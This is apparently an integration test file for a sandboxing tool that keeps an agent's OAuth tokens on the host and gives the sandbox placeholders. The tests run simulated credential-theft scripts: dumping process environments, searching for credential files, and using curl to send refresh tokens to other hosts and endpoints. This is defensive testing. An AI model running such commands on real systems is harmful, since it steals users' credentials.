//! Logins that stay outside: the file inside has placeholders, and tokens are refreshed on the host.

use std::process::Stdio;

use super::rig::{Rig, VALUE, access_token, refresh_token};
use crate::support::{Engine, Finished, Fixture, RunToEnd, Running};

const PRESET: &str = r#"
name = "mine"

[[logins]]
file = "~/.mine/auth.json"
tokens = [
    { key = "tokens.access", answer = "access_token", hosts = ["login.vendor.example"] },
    { key = "tokens.refresh", answer = "refresh_token" },
]
refresh_at = ["auth.vendor.example/oauth/token"]
expires = "until"
scopes = "scopes"
left_out = ["others"]
lock = "~/.mine.lock"
outside = "mine 1"

[[directories]]
path = "~/.mine"
mode = "rw"
create = true
own = true
shared = ["auth.json"]
reason = "the login"
"#;

/// Asks with the access token that the file inside has, and shows the status.
const ASK: &str = r#"
    token() { sed -n "s/.*\"$1\": *\"\([^\"]*\)\".*/\1/p" ~/.mine/auth.json; }
    ask() { curl -sS -o answer -w '%{http_code}\n' -H "Authorization: Bearer $(token access)" "${1:-https://login.vendor.example/with-login}"; }
    refresh() { curl -sS -d "grant_type=refresh_token&refresh_token=$(token refresh)" https://auth.vendor.example/oauth/token; echo; }
"#;

/// Logs in on the host. `until` is the time of expiry in milliseconds.
fn log_in(fixture: &Fixture, generation: u32, until: &str) {
    fixture.write(".config/sandpen/presets/mine.toml", PRESET);
    let (access, refresh) = (access_token(generation), refresh_token(generation));
    let tokens = format!(r#"{{ "access": "{access}", "refresh": "{refresh}" }}"#);
    let others = r#"{ "a.server": { "token": "of-another-server-0123456789" } }"#;
    let text = format!(
        r#"{{ "tokens": {tokens}, "until": {until}, "scopes": ["a", "b"], "plan": "pro", "others": {others} }}"#
    );
    fixture.write(".mine/auth.json", &text);
}

fn host_file(fixture: &Fixture) -> serde_json::Value {
    serde_json::from_str(&std::fs::read_to_string(fixture.home.join(".mine/auth.json")).expect("a file")).expect("JSON")
}

fn run(fixture: &Fixture, rig: &Rig, options: &[&str], script: &str) -> Finished {
    let options = [&["--agent", "mine"], options].concat();
    rig.bash(fixture, &options, &format!("{ASK}{script}"))
}

fn has_token(text: &str) -> bool {
    text.contains("-mine-Real") || text.contains("of-another-server")
}

fn on_engines(test: fn(&Fixture)) {
    Fixture::on(Engine::Native, test);
    Fixture::on(Engine::Docker, test);
}

#[test]
fn a_login_is_used_and_refreshed_and_its_tokens_stay_outside() {
    on_engines(|fixture| {
        let rig = Rig::start(fixture);
        log_in(fixture, 0, "99999999999999");
        let script = r#"
            cat ~/.mine/auth.json; ask; cat answer
            ask; refresh | tee refreshed; ask
            curl -sS "https://login.vendor.example/echo" -d "$(token access)" -H 'Authorization: Bearer of-the-guest'
            cat /proc/*/environ 2>/dev/null; find / -xdev -type f -size -1M \( -path '*mine*' -o -path '/.sandpen*' \) -exec cat {} + 2>/dev/null; true"#;
        let first = run(fixture, &rig, &[], script);
        assert!(!has_token(first.success()) && !has_token(&first.stderr), "{first:?}");
        assert!(first.stdout.contains("\"plan\": \"pro\"") && first.stdout.contains("at-mine-"), "{first:?}");
        assert!(first.stderr.contains("`others` of `~/.mine/auth.json` is not inside"), "{}", first.stderr);
        // Nothing was due, so the vendor was not asked.
        assert_eq!(rig.refreshes(), (0, 0));
        assert!(first.stdout.contains("\"scope\":\"a b\""), "the answer is made of what the file has: {first:?}");
        let requests = rig.requests();
        assert!(requests[0].contains(&format!("authorization: Bearer {}\r\n", access_token(0))), "{requests:?}");
        let echo = requests.iter().find(|request| request.starts_with("POST /echo")).expect("a request");
        assert!(!has_token(echo) && !echo.contains("of-the-guest"), "{echo}");

        rig.expire();
        let second = run(fixture, &rig, &[], "ask; refresh >refreshed; cat refreshed; ask; token access");
        assert!(!has_token(second.success()), "{second:?}");
        let lines: Vec<&str> = second.stdout.lines().collect();
        assert_eq!((lines[0], lines[2]), ("401", "200"), "{second:?}");
        let answer: serde_json::Value = serde_json::from_str(lines[1]).expect("JSON");
        assert_eq!(answer["access_token"], lines[3], "the placeholder stays the same");
        assert_eq!((&answer["expires_in"], rig.refreshes()), (&serde_json::json!(3600), (1, 0)));
        let kept = host_file(fixture);
        assert_eq!(kept["tokens"], serde_json::json!({ "access": access_token(1), "refresh": refresh_token(1) }));
        assert!(kept["until"].as_u64().is_some_and(|until| until < 99_999_999_999_999), "{kept}");
        assert_eq!(kept["others"]["a.server"]["token"], "of-another-server-0123456789", "other keys stay: {kept}");
        assert!(!fixture.home.join(".mine.lock").exists());
        let log = fixture.sandpen(["log", "--format", "json"]).finish();
        assert!(log.success().contains("its tokens were refreshed") && !has_token(&log.stdout), "{}", log.stdout);
    });
}

#[test]
fn the_host_and_two_sandboxes_do_not_log_each_other_out() {
    Fixture::on(Engine::Native, |fixture| {
        let rig = Rig::start(fixture);
        log_in(fixture, 0, "99999999999999");
        let start = || {
            let mut command = fixture.run();
            command.envs(rig.host()).args(["--agent", "mine", "--", "bash", "-c"]);
            command.arg(format!("{ASK} ask; read -r _; ask; refresh >/dev/null; ask; echo ready; read -r _; ask"));
            Running::start(command.stdin(Stdio::piped()))
        };
        let mut sandboxes = [start(), start()];
        assert!(sandboxes.iter_mut().all(|sandbox| sandbox.line() == "200"));
        rig.expire();
        sandboxes.iter_mut().for_each(|sandbox| sandbox.write("\n"));
        for sandbox in &mut sandboxes {
            let lines = [sandbox.line(), sandbox.line(), sandbox.line()];
            assert!(lines[1..] == ["200", "ready"], "{lines:?}");
        }
        // Whichever came first refreshed; the other one was given what the host's file has.
        assert_eq!(rig.refreshes(), (1, 0));
        assert_eq!(host_file(fixture)["tokens"]["refresh"], refresh_token(1));
        // A program on the host refreshes, too.
        log_in(fixture, rig.refresh_on_host(), "99999999999999");
        for mut sandbox in sandboxes {
            sandbox.write("\n");
            assert_eq!(sandbox.line(), "200");
            sandbox.finish().success();
        }
        assert_eq!(host_file(fixture)["tokens"]["access"], access_token(2));
        assert_eq!(rig.refreshes(), (1, 0));
    });
}

#[test]
fn attack_30_a_login_goes_nowhere_else_and_cannot_be_replaced_from_inside() {
    on_engines(|fixture| {
        let rig = Rig::start(fixture);
        log_in(fixture, 0, "1");
        let script = r#"
            for url in other.vendor.example/ login.vendor.example:8443/ auth.vendor.example/oauth/revoke; do
                ask "https://$url"
                curl -sS "https://$url" -d "token=$(token refresh)&refresh_token=$(token refresh)" >>answers
            done
            ask http://login.vendor.example/plain
            curl -sS "https://login.vendor.example/query?access_token=$(token refresh)" >>answers
            curl -sS https://auth.vendor.example/oauth/token -d "grant_type=authorization_code&code=of-the-guest" >>answers
            curl -sS https://other.vendor.example/oauth/token -d "grant_type=refresh_token&refresh_token=$(token refresh)" >>answers
            curl -sS https://auth.vendor.example/oauth/token -d "grant_type=refresh_token&refresh_token=of-the-guest" >>answers
            cat answers
            echo '{"tokens":{"access":"at-mine-of-the-guest-0123456","refresh":"rt-mine-of-the-guest-0123456"}}' >~/.mine/auth.json
            sleep 1.5"#;
        let finished = run(fixture, &rig, &[], script);
        assert!(!has_token(finished.success()), "{finished:?}");
        assert!(finished.stdout.contains("the login of mine stays outside: log in on the host"), "{finished:?}");
        let requests = rig.requests();
        assert!(!requests.iter().any(|request| has_token(request)), "{requests:?}");
        assert!(!requests.iter().any(|request| request.contains("authorization_code")), "{requests:?}");
        assert_eq!(host_file(fixture)["tokens"]["access"], access_token(0), "nothing comes out");
        // The next sandbox has placeholders again.
        let next = run(fixture, &rig, &[], "token access");
        assert!(!next.success().contains("of-the-guest") && next.stdout.starts_with("at-mine-"), "{next:?}");
    });
}

#[test]
fn a_first_login_comes_out_and_is_outside_from_then_on() {
    Fixture::on(Engine::Native, |fixture| {
        let rig = Rig::start(fixture);
        log_in(fixture, 0, "1");
        let login = std::fs::read_to_string(fixture.home.join(".mine/auth.json")).expect("a file");
        std::fs::remove_file(fixture.home.join(".mine/auth.json")).expect("removed");
        let script = format!("test ! -e ~/.mine/auth.json && cat >~/.mine/auth.json <<'END'\n{login}\nEND");
        run(fixture, &rig, &[], &script).success();
        assert_eq!(host_file(fixture)["tokens"]["access"], access_token(0));
        let second = run(fixture, &rig, &[], "ask; cat ~/.mine/auth.json ~/.mine/*");
        assert!(second.success().starts_with("200") && !has_token(&second.stdout), "{second:?}");
        // Logged out on the host: no placeholder becomes a login.
        std::fs::remove_file(fixture.home.join(".mine/auth.json")).expect("removed");
        let third = run(fixture, &rig, &[], "ls -A ~/.mine");
        assert_eq!(third.success().trim(), "", "{third:?}");
        assert!(!fixture.home.join(".mine/auth.json").exists());
    });
}

#[test]
fn a_login_that_cannot_stay_outside_is_told() {
    Fixture::on(Engine::Native, |fixture| {
        let rig = Rig::start(fixture);
        let file = "~/.mine/auth.json";
        for (content, problem) in [
            ("login", "is not JSON: line 1, column 1"),
            ("[]", "is not a JSON object"),
            (r#"{"tokens":{"access":7}}"#, "has a `tokens.access` that is not a token: at least 8 characters"),
            (
                r#"{"session_token":"of-another-version-0123456"}"#,
                "has none of the keys `tokens.access`, `tokens.refresh`",
            ),
        ] {
            log_in(fixture, 0, "1");
            fixture.write(".mine/auth.json", content);
            let outside = run(fixture, &rig, &["--keys", "outside"], "true");
            let expected = format!("flag --keys: `the login of mine` cannot stay outside: `{file}` {problem}");
            assert!(outside.failure(2).contains(&expected), "{}", outside.stderr);
            let auto = run(fixture, &rig, &[], "cat ~/.mine/auth.json");
            assert_eq!(auto.success(), content);
            assert!(
                auto.stderr.contains(&format!("the login of mine is inside: `{file}` {problem}")),
                "{}",
                auto.stderr
            );
        }
        log_in(fixture, 0, "1");
        fixture.write(".config/sandpen/presets/mine.toml", &PRESET.replace("outside = \"mine 1\"", ""));
        let untried = run(fixture, &rig, &[], "token access");
        assert!(untried.success().contains(&access_token(0)), "{untried:?}");
        let line = "the login of mine is inside: it was not seen to work with mine";
        assert!(untried.stderr.contains(line), "{}", untried.stderr);
        let mounted = run(fixture, &rig, &["--keys", "outside", "--mount", "~/.mine"], "true");
        assert!(mounted.failure(2).contains("`~/.mine` is mounted by the user"), "{}", mounted.stderr);
    });
}

#[test]
fn the_self_test_finds_keys_and_tokens_wherever_they_are() {
    Fixture::on(Engine::Native, |fixture| {
        log_in(fixture, 0, "1");
        let selftest = |options: &[&str]| {
            let mut command = fixture.command("selftest");
            command.args(["--format", "json", "--agent", "mine", "--secret", "A_TEST_KEY@api.vendor.example"]);
            let finished = command.env("A_TEST_KEY", VALUE).args(options).finish();
            let report: serde_json::Value = serde_json::from_str(&finished.stdout).expect("JSON");
            let probes = report["probes"].as_array().expect("probes");
            let probe = probes.iter().find(|probe| probe["name"] == "keys").expect("a probe");
            ["state", "promised", "seen"].map(|key| probe[key].as_str().expect("text").to_owned())
        };
        let [state, promised, seen] = selftest(&[]);
        assert_eq!(state, "held", "{seen}");
        assert!(promised.contains("(A_TEST_KEY, the login of mine)"), "{promised}");
        let copy = format!("COPY=x{VALUE}x");
        let [state, _, seen] = selftest(&["--env", &copy]);
        assert!(state == "failed" && seen.contains("A_TEST_KEY is in the environment"), "{seen}");
        assert!(seen.contains("A_TEST_KEY is in /proc/") && !seen.contains("login"), "{seen}");
        for (name, text) in [("A_TEST_KEY", VALUE.to_owned()), ("the login of mine", refresh_token(0))] {
            let file = fixture.project.join("left-behind");
            std::fs::write(&file, format!("a {text} b")).expect("written");
            let [state, _, seen] = selftest(&[]);
            assert_eq!((state.as_str(), seen), ("failed", format!("{name} is in {}", file.display())));
        }
    });
}

/// Its client is in no registry, so nobody has seen its logins work outside.
#[test]
fn the_logins_of_llxprt_are_inside_and_a_line_says_so() {
    let fixture = Fixture::new();
    let explain = |keys: &str| {
        let mut command = fixture.command("explain");
        command
            .args(["--engine", "native", "--agent", "llxprt", "--image", "none", "--keys", keys, "--", "true"])
            .finish()
    };
    let none = explain("auto");
    assert!(!none.success().contains("is inside") && !none.stderr.contains("is inside"), "{none:?}");
    for file in ["oauth/anthropic.json", "oauth/codex.json", "oauth/qwen.json", "oauth_creds.json"] {
        let (access, refresh) = (access_token(0), refresh_token(0));
        fixture
            .write(format!(".llxprt/{file}"), &format!(r#"{{"access_token":"{access}","refresh_token":"{refresh}"}}"#));
    }
    let line = "the login of llxprt is inside: it was not seen to work with llxprt";
    let plain = explain("auto");
    assert_eq!(plain.success().matches(line).count() + plain.stderr.matches(line).count(), 1, "{plain:?}");
    assert!(explain("outside").failure(2).contains("`the login of llxprt` cannot stay outside"));
    fixture.write(".local/share/llxprt-code/secure-store/llxprt-code-oauth/anthropic:default.enc", "{}");
    let encrypted = explain("auto");
    let line = "llxprt-code-oauth` or `~/.llxprt/secure-store/llxprt-code-oauth` is encrypted";
    assert!(encrypted.success().contains(line) || encrypted.stderr.contains(line), "{encrypted:?}");
}

#[test]
fn tokens_inside_one_sandbox_are_not_in_another() {
    Fixture::on(Engine::Native, |fixture| {
        let rig = Rig::start(fixture);
        log_in(fixture, 0, "1");
        let mut command = fixture.run();
        command.envs(rig.host()).args(["--agent", "mine", "--keys", "inside", "--", "bash", "-c"]);
        command.arg("cat ~/.mine/auth.json | tr -d '\\n'; echo; read -r _; true");
        let mut inside = Running::start(command.stdin(Stdio::piped()));
        assert!(has_token(&inside.line()));
        let outside = run(fixture, &rig, &[], "ls -A ~/.mine; cat ~/.mine/*");
        assert!(outside.success().contains("at-mine-") && !has_token(&outside.stdout), "{outside:?}");
        inside.close_stdin();
        inside.finish().success();
        assert_eq!(host_file(fixture)["tokens"]["access"], access_token(0));
    });
}
